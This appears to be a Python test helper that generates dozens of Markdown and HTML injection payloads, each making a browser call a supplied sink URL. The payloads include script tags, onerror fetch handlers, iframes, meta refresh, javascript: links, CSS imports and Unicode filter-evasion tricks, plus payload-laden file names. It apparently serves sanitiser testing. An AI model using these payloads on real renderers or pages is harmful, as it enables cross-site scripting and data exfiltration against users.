"""Texts that make a browser call another host when one layer too many lets them through."""

WRAPS = (
    *("{}", "> {}", "- {}", "1. {}", "# {}", "| {} |", "\t{}", "\\{}", "\u200b{}", "\ufeff{}"),
    *("&nbsp;{}", "**{}**", "~~{}~~", "`{}", ":red[{}]", "$ {} $", "[{}]", "<p>{}</p>"),
    *("a\r\n\r\n{}\r\n\r\n", '"> {} <"'),
)
"""What stands around a payload; with each a parser may be in another state when it comes to it."""


def payloads(sink, wrap="{}"):
    """Return the texts; each loads, links or runs something of `sink`, under a path of its own."""
    url = sink.removeprefix("http:")
    shapes = [
        "![a]({})",
        "![a](<{}>)",
        "![a][r]\n\n[r]: {}",
        "[![a]({})]({})",
        "[a]({})",
        "<{}>",
        "{}",
        "![a](" + url + "/{n}s)",
        "\\![a]({})",
        "\\\\![a]({})",
        "&#33;[a]({})",
        "!\u200b[a]({})",
        "a\n\n![a]({})",
        "> ![a]({})",
        "- ![a]({})",
        "# ![a]({})",
        "|a|\n|-|\n|![a]({})|",
        "**![a]({})**",
        ":red[![a]({})]",
        ":blue-background[![a]({})]",
        ":small[![a]({})]",
        ":material/home: ![a]({})",
        "$\\href{{{}}}{{a}}$ ![a]({})",
        "$$\\includegraphics{{{}}}$$",
        "[^1] ![a]({})\n\n[^1]: ![b]({})",
        "`a` ![a]({})",
        "```\na\n```\n![a]({})",
        "<img src='{}'>",
        "<img srcset='{} 2x'>",
        "<svg><image href='{}'/></svg>",
        "<script src='{}'></script>",
        "<script>fetch('{}')</script>",
        "<img src=x onerror=\"fetch('{}')\">",
        "<iframe src='{}'></iframe>",
        "<object data='{}'></object>",
        "<embed src='{}'>",
        "<video src='{}' poster='{}'></video>",
        "<audio src='{}' autoplay></audio>",
        "<link rel=stylesheet href='{}'>",
        "<link rel=prefetch href='{}'>",
        "<link rel=dns-prefetch href='{}'>",
        "<style>@import '{}';</style>",
        "<p style=\"background:url('{}')\">a</p>",
        "<form action='{}'><input autofocus onfocus=\"fetch('{}')\"></form>",
        "<meta http-equiv=refresh content='0;url={}'>",
        "<base href='{}'>",
        "</textarea></script><img src='{}'>",
        "[a](javascript:fetch('{}'))",
        "<a href='{}' ping='{}'>a</a>",
        "\u202e![a]({})\u202c",
    ]
    texts = (shape.replace("{n}", str(n)) for n, shape in enumerate(shapes))
    return [wrap.replace("{}", text.replace("{}", f"{sink}/{n}")) for n, text in enumerate(texts)]


def file_names(sink):
    """Return the texts that a file can be named by; browsers take a backslash for a slash."""
    return [text.replace("/", "\\").replace("\n", " ")[:200] for text in payloads(sink)]
